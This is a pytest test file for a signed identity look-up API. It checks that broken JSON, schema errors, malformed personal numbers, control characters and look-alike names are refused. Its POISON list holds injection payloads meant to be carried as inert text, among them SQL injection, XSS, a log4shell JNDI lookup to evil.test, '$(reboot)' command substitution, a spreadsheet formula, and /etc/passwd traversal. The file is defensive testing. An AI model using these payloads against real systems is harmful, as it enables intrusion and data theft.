"""THREATS C as dialogues: bodies that are broken, oversized, ambiguous or poisonous; all of them truly signed."""

import json

import pytest

pytestmark = [pytest.mark.usefixtures("healthy"), pytest.mark.timeout(120)]


def _refused(stack, body, code, status):
    calls = stack.calls()
    request, content = stack.signed(body=body)
    answer = stack.send(request, content)
    stack.refused(answer, code, status, request=request, calls=calls)
    return answer.value


BROKEN = {
    "duplicate-member": b'{"subject": {}, "subject": {}}',
    "duplicate-deep": b'{"a": [{"b": 1, "b": 1}]}',
    "depth-100000": b"[" * 100_000 + b"]" * 100_000,
    "depth-33": b"[" * 33 + b"]" * 33,
    "unclosed": b"[" * 100_000,
    "integer-5000-digits": b"[" + b"9" * 5000 + b"]",
    "integer-16-digits": b"[1234567890123456]",
    "nan": b"[NaN]",
    "infinity": b"[-Infinity]",
    "1e400": b"[1e400]",
    "utf-16": '{"a": 1}'.encode("utf-16"),
    "latin-1": '{"a": "\xe9"}'.encode("latin-1"),
    "bom": b"\xef\xbb\xbf{}",
    "lone-surrogate": b'{"a": "\\ud800"}',
    "surrogate-bytes": b'{"a": "\xed\xa0\x80"}',
    "overlong-utf-8": b'{"a": "\xc0\xae"}',
    "single-quotes": b"{'a': 1}",
    "trailing-comma": b'{"a": 1,}',
    "comment": b'{"a": 1} // x',
    "two-documents": b"{} {}",
    "nul": b'{"a": "\x00"}',
    "empty": b" ",
}


@pytest.mark.parametrize("name", BROKEN)
def test_broken_json_is_malformed(stack, name):
    """C16: 400, never 500, whatever the parser would make of it."""
    _refused(stack, BROKEN[name], "request-malformed", 400)


@pytest.mark.parametrize(
    ("changes", "pointer"),
    [
        ({"fields": "full_name"}, "/fields"),
        ({"fields": []}, "/fields"),
        ({"fields": ["full_name", "full_name"]}, "/fields"),
        ({"fields": [1]}, "/fields/0"),
        ({"fields": [None]}, "/fields/0"),
        ({"fields": None}, "/fields"),
        ({"subject": None}, "/subject"),
        ({"subject": []}, "/subject"),
        ({"subject__id": None}, "/subject/id"),
        ({"subject__id": 99191000001}, "/subject/id"),
        ({"subject__id": ...}, "/subject/id"),
        ({"subject__id_type": "passport"}, "/subject/id_type"),
        ({"subject__id_type": "tax_code"}, "/subject/id_type"),
        ({"subject__full_name": ...}, "/subject/full_name"),
        ({"subject__birth_date": "02/05/1991"}, "/subject/birth_date"),
        ({"subject__birth_date": "1991-02-30"}, "/subject/birth_date"),
        ({"subject__birth_date": 1991}, "/subject/birth_date"),
        ({"surprise": 1}, "/surprise"),
        ({"subject__surprise": 1}, "/subject/surprise"),
        ({"purpose__officer__surprise": True}, "/purpose/officer/surprise"),
        ({"purpose__legal_basis": "because"}, "/purpose/legal_basis"),
        ({"purpose__legal_basis": "consent"}, "/purpose/consent_ref"),
        ({"purpose__legal_basis": "vital_interest"}, "/purpose/emergency_reason"),
        ({"purpose__procedure": "everything"}, "/purpose/procedure"),
        ({"purpose__officer__id": "9"}, "/purpose/officer/id"),
        ({"purpose__officer__unit": "somewhere"}, "/purpose/officer/unit"),
        ({"purpose__dossier": "x" * 65}, "/purpose/dossier"),
        ({"purpose__component": ""}, "/purpose/component"),
    ],
)
def test_what_breaks_the_schema_is_pointed_at(stack, changes, pointer):
    """C17: 422 with a pointer to the very member."""
    told = _refused(stack, stack.body(**changes), "request-invalid", 422)
    assert pointer in {error["pointer"] for error in told["errors"]}


@pytest.mark.parametrize("value", [[], "text", 1, None, True])
def test_a_body_that_is_no_object_is_invalid(stack, value):
    """C17: well-formed JSON of another kind is 422."""
    _refused(stack, json.dumps(value).encode(), "request-invalid", 422)


@pytest.mark.parametrize(
    "number",
    [
        "０９９１９１０００００１",
        "٠٩٩١٩١٠٠٠٠٠١",
        " 099191000001",
        "099191000001 ",
        "099 191 000 001",
        "099191000001\n",
        "09919100000",
        "0991910000011",
        "09919100000a",
        "-99191000001",
        "+99191000001",
        "099191000001\u200b",
    ],
)
def test_a_personal_number_is_twelve_plain_digits(stack, number):
    """C18: other digits, spaces, line ends and other lengths are no personal number."""
    told = _refused(stack, stack.body(subject__id=number), "request-invalid", 422)
    assert {error["pointer"] for error in told["errors"]} == {"/subject/id"}
    assert number.strip() not in json.dumps(told, ensure_ascii=False)


POISON = [
    "Robert'); DROP TABLE entry;--",
    "<script>alert(1)</script>",
    "&xxe; <!DOCTYPE a>",
    "]]><SoDinhDanh>099191000002</SoDinhDanh>",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}} <%= 1 %> #{1}",
    "$(reboot) `reboot` | cat",
    "%s%s%n %x",
    "=cmd|' /C calc'!A0",
    "../../etc/passwd",
]


@pytest.mark.parametrize("text", POISON)
def test_poisonous_texts_are_carried_as_texts(stack, text):
    """C19: in a free text they do no harm: the look-up is answered, the registry gets no other question."""
    before = len(stack.journal("population"))
    body = stack.body(purpose__legal_basis="consent", purpose__consent_ref=text)
    answer = stack.ask(body=body)
    assert (answer.status, answer.value["outcome"]) == (200, "found")
    (asked,) = stack.journal("population")[before:]
    assert asked["subject"] == "099191000001"


@pytest.mark.parametrize(("number", "text"), list(enumerate(POISON)))
def test_poisonous_names_reach_the_registry_as_names(stack, number, text):
    """C19: as a person's name they are refused, or escaped and then nobody's: never another element or member."""
    before, person = len(stack.journal("population")), f"0991910010{number:02}"
    request, body = stack.signed(body=stack.body(subject__full_name=text, subject__id=person))
    answer = stack.send(request, body)
    stack.verify(answer, request)
    asked = stack.journal("population")[before:]
    if answer.status == 422:
        assert asked == []
    else:
        assert (answer.status, answer.value["outcome"]) == (200, "no_match")
        assert [line["subject"] for line in asked] == [person]


NOT_XML = ["\x00", "\x01", "\x0b", "\x1b", "\ufffe", "\uffff"]
NOT_A_NAME = [*NOT_XML, "\x7f", "\x85", "\r\n", "\t"]


@pytest.mark.parametrize(
    ("member", "character"),
    [
        *(("purpose__consent_ref", character) for character in NOT_XML),
        *((name, character) for name in ("subject__full_name", "purpose__officer__name") for character in NOT_A_NAME),
    ],
)
def test_control_characters_are_refused(stack, member, character):
    """C19: what XML cannot carry is 422 in any text, and no name holds a control character at all."""
    words = f"Nguyễn{character}Văn"
    changes = {"purpose__legal_basis": "consent", "purpose__consent_ref": "giấy đồng ý", member: words}
    told = _refused(stack, stack.body(**changes), "request-invalid", 422)
    assert {error["pointer"] for error in told["errors"]} == {"/" + member.replace("__", "/")}


@pytest.mark.parametrize(
    "name",
    [
        "NGUYỄN THỊ ТHỬ",  # a Cyrillic Т
        "ΝGUYỄN THỊ THỬ",  # a Greek Ν
        "NGUYỄN\u202e ỬHT ỊHT",
        "NGUYỄN \u2066THỊ\u2069 THỬ",
        "NGUYỄN 𝗧HỊ THỬ😀",
    ],
)
def test_look_alikes_and_hidden_directions_are_refused(stack, name):
    """C20: a name in two scripts, or one that reads otherwise than it is stored, is 422."""
    told = _refused(stack, stack.body(subject__full_name=name), "request-invalid", 422)
    assert {error["pointer"] for error in told["errors"]} == {"/subject/full_name"}


@pytest.mark.parametrize("name", ["nguyễn thị thử", "NGUYỄN  THỊ\u00a0THỬ", "NGUYÊ\u0303N THI\u0323 THƯ\u0309"])
def test_honest_spellings_of_one_name_are_one(stack, name):
    """C20: case, spaces and decomposed accents are not another name."""
    assert stack.look_up(subject__full_name=name).value["outcome"] == "found"
